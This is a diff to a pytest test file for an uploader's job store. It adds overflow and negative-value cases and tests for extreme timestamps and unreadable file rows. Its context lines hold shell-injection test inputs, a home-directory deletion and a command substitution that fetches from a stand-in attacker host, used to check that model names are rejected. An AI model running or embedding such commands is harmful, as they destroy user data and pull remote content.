@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import shlex
 from collections.abc import Callable
+from datetime import UTC, datetime, timedelta, timezone
 from typing import Any
 
 import pytest
@@ -20,7 +21,7 @@ from uploader.core.seal import Seal
 from uploader.store.claims import Claims
 from uploader.store.held import Held
 from uploader.store.jobs import Jobs
-from uploader.store.tables import events, files
+from uploader.store.tables import UtcDateTime, events, files
 from uploader.store.tables import jobs as table
 
 SEAL = Seal(b"s" * 32)
@@ -46,6 +47,12 @@ NONSENSE: list[dict[str, Any]] = [
     {"preflight": [{"check": "c"}]},
     {"preflight": [FINDING | {"hint": 5}]},
     {"rate_bps": float("inf")},
+    {"rate_bps": -1.0},
+    {"polling_s": 1e300},
+    {"attempts": 2**31 - 1},
+    {"failures": -1},
+    {"run_number": 2**31 - 1},
+    {"recreations": 2**63 - 1},
     # Names go into commands that people copy.
     {"model_id": "m; rm -rf ~"},
     {"model_id": "$(curl evil.example)"},
@@ -121,6 +128,20 @@ def test_no_value_of_a_file_hides_another_job(
     assert (good.id, good.reason) == (ids[1], None)
 
 
+@pytest.mark.parametrize("at", [datetime.min, datetime.max])
+def test_every_time_of_a_row_can_be_shown_in_every_zone(
+    jobs: Jobs, claims: Claims, enqueue: Callable[..., int], put: Callable[..., None], at: datetime
+) -> None:
+    job_id = enqueue("a")
+    times = [column.name for column in table.columns if isinstance(column.type, UtcDateTime)]
+    put(job_id, **dict.fromkeys(times, at.replace(tzinfo=UTC)))
+    (shown,) = jobs.jobs()
+    for hours in (-14, 14):
+        shown.created_at.astimezone(timezone(timedelta(hours=hours)))
+    assert json.dumps(job_json(shown, NOW))
+    assert claims.claim("w", BASE_URL, tuple(Stage), 60)
+
+
 def test_a_job_that_cannot_be_read_can_be_removed_and_nothing_else(
     jobs: Jobs, claims: Claims, enqueue: Callable[..., int], put: Callable[..., None]
 ) -> None:
@@ -138,13 +159,27 @@ def test_a_job_that_cannot_be_read_can_be_removed_and_nothing_else(
     assert jobs.jobs() == []
 
 
+@pytest.mark.parametrize(
+    "nonsense",
+    [
+        {"path": files.c.path.concat("/x")},
+        {"attempts": 2**31 - 1},
+        {"failures": -1},
+        {"sessions": 2**31 - 1},
+        {"mismatches": 2**31 - 1},
+        {"bytes_sent": 2**63 - 1},
+        {"furthest": -1},
+        {"size_bytes": 2**62},
+    ],
+    ids=repr,
+)
 def test_files_that_cannot_be_read_fail_their_job_and_are_not_shown(
-    engine: Engine, jobs: Jobs, enqueue: Callable[..., int]
+    engine: Engine, jobs: Jobs, enqueue: Callable[..., int], nonsense: dict[str, Any]
 ) -> None:
     bad, good = enqueue("a"), enqueue("b")
     with engine.begin() as connection:
         odd = update(files).where(files.c.job_id == bad)
-        connection.execute(odd.values(path=files.c.path.concat("/x")))
+        connection.execute(odd.values(**nonsense))
     with pytest.raises(UnreadableRow) as caught:
         jobs.files(bad)
     assert f"job {bad} " in caught.value.message
